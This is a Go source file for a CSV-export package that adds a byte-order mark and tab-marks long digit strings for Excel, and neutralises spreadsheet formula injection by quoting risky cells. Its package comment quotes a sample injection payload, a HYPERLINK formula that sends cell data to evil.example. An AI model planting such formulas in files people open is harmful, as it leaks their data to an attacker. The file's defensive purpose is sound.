// Package excelcsv shapes the CSV files issuer writes for people (reports,
// batch exports, rejected lines) so that Excel on Chinese Windows opens
// them right with a double click, while programs still read every value.
//
// Two things go wrong without it. Excel reads a CSV without a byte-order
// mark in the system code page (GBK on Chinese Windows), so Chinese text
// is garbled; and it turns a long digit string (a 28-digit out_request_no
// or transaction_id) into a number, shown as 4.2E+27 and rounded to 15
// digits for good. The fix is the one WeChat Pay's and Alipay's own bill
// files use: a UTF-8 byte-order mark first, and a tab in front of every
// long digit string. Excel keeps such a cell as text and shows it as is;
// a program gets the bare value by trimming white space (Go's
// strings.TrimSpace, Python's str.strip, pandas' .str.strip(); the field
// is quoted, so csv readers keep the tab until then). The ="…" form was
// not chosen: it is a formula, which a program must unwrap, and which
// LibreOffice and Numbers show as typed unless told to evaluate it.
//
// Columns that are a contract with operators' scripts keep their bare
// values; the package is only ever applied to the others. Plain output
// (no mark, no tabs) is there for scripts that want it.
//
// A third thing is a danger rather than a nuisance: a spreadsheet runs a
// cell that begins with = + - or @ as a formula (and a tab, carriage
// return or line feed before one), so a batch named
// =HYPERLINK("http://evil.example/?x="&A2,"Click") or a supplied
// out_request_no -A1*1000 would run on the analyst's PC. Every CSV issuer
// writes goes through Writer, which puts a single quote in front of such
// a cell, as OWASP advises (Safe). It does so in every column and in
// plain output too, since a plain file is opened in Excel as easily; only
// a number issuer formatted itself (-12.50, a negative amount) and Text's
// own tab-marked digit strings are left as they are, for neither is a
// formula. A cell that begins with a quote gets one more, so that the
// rule reads back exactly: a program drops one leading quote before
// = + - @ tab CR LF or another quote (ReadAll does).
//
// The package owns no files and no I/O beyond the writer it is handed.
package excelcsv

import (
	"bufio"
	"encoding/csv"
	"io"
	"strings"
)

// BOM is the UTF-8 byte-order mark that tells Excel the file is UTF-8.
const BOM = "\uFEFF"

// FileMode is the mode of files issuer writes for people: the owner reads
// and writes, the owner's group (analysts) reads, others nothing.
const FileMode = 0o640

// WriteBOM writes the byte-order mark unless plain.
func WriteBOM(w io.Writer, plain bool) error {
	if plain {
		return nil
	}
	_, err := io.WriteString(w, BOM)
	return err
}

// BOMFirst returns a writer that writes the byte-order mark (unless plain)
// just before the first bytes written through it, so that a writer that
// fails before writing anything (an unknown batch, say) leaves nothing
// behind, not even the mark.
func BOMFirst(w io.Writer, plain bool) io.Writer {
	if plain {
		return w
	}
	return &bomFirst{w: w}
}

type bomFirst struct {
	w       io.Writer
	written bool
}

func (b *bomFirst) Write(p []byte) (int, error) {
	if !b.written && len(p) > 0 {
		if err := WriteBOM(b.w, false); err != nil {
			return 0, err
		}
		b.written = true
	}
	return b.w.Write(p)
}

// Text returns s as Excel must keep it: with a leading tab when s is a
// digit string that Excel would turn into a number and lose (12 digits
// or more, which General shows in scientific notation and rounds past 15,
// or a leading zero that it drops). Anything else, and everything when
// plain, is returned as is.
func Text(s string, plain bool) string {
	if plain || !needsText(s) {
		return s
	}
	return "\t" + s
}

// needsText reports whether Excel would mangle the digit string s.
func needsText(s string) bool {
	if len(s) < 2 {
		return false
	}
	for i := 0; i < len(s); i++ {
		if s[i] < '0' || s[i] > '9' {
			return false
		}
	}
	return len(s) >= 12 || s[0] == '0'
}

// formulaStart lists the first characters that make a spreadsheet read a
// cell as a formula (or, for the quote, that Safe itself adds).
const formulaStart = "=+-@\t\r\n'"

// Safe returns s as a spreadsheet shows it without running it: with a
// single quote in front when s begins with = + - @, a tab, a carriage
// return, a line feed or a quote, unless s is a plain decimal number
// (-12.50) or a digit string Text marked with its tab.
func Safe(s string) string {
	if s == "" || !strings.ContainsRune(formulaStart, rune(s[0])) || isNumber(s) || isMarkedDigits(s) {
		return s
	}
	return "'" + s
}

// Unsafe undoes Safe: one leading quote before a character Safe guards.
func Unsafe(s string) string {
	if len(s) >= 2 && s[0] == '\'' && strings.ContainsRune(formulaStart, rune(s[1])) {
		return s[1:]
	}
	return s
}

// isNumber reports whether s is -?digits(.digits)?: a value issuer
// formatted from a number, which a spreadsheet reads as that number.
func isNumber(s string) bool {
	s = strings.TrimPrefix(s, "-")
	whole, frac, dot := strings.Cut(s, ".")
	return isDigits(whole) && (!dot || isDigits(frac))
}

// isMarkedDigits reports whether s is Text's form of a digit string.
func isMarkedDigits(s string) bool { return len(s) > 1 && s[0] == '\t' && isDigits(s[1:]) }

func isDigits(s string) bool {
	if s == "" {
		return false
	}
	for i := 0; i < len(s); i++ {
		if s[i] < '0' || s[i] > '9' {
			return false
		}
	}
	return true
}

// Writer writes CSV records with every cell made Safe. It is the only way
// issuer writes CSV.
type Writer struct {
	w   *csv.Writer
	rec []string
}

// NewWriter returns a Writer on w.
func NewWriter(w io.Writer) *Writer { return &Writer{w: csv.NewWriter(w)} }

// Write writes one record; rec is not changed.
func (w *Writer) Write(rec []string) error {
	w.rec = w.rec[:0]
	for _, c := range rec {
		w.rec = append(w.rec, Safe(c))
	}
	return w.w.Write(w.rec)
}

// Flush writes any buffered data to the underlying writer.
func (w *Writer) Flush() { w.w.Flush() }

// Error reports any error of a previous Write or Flush.
func (w *Writer) Error() error { return w.w.Error() }

// ReadAll reads a file this package shaped as a program should: past the
// byte-order mark, every value as it was before Writer made it safe and
// without the tab that keeps it text in Excel.
func ReadAll(r io.Reader) ([][]string, error) {
	br := bufio.NewReader(r)
	if b, err := br.Peek(len(BOM)); err == nil && string(b) == BOM {
		_, _ = br.Discard(len(BOM))
	}
	recs, err := csv.NewReader(br).ReadAll()
	if err != nil {
		return nil, err
	}
	for _, rec := range recs {
		for i := range rec {
			if u := Unsafe(rec[i]); u != rec[i] {
				rec[i] = u
				continue
			}
			rec[i] = strings.TrimLeft(rec[i], "\t")
		}
	}
	return recs, nil
}
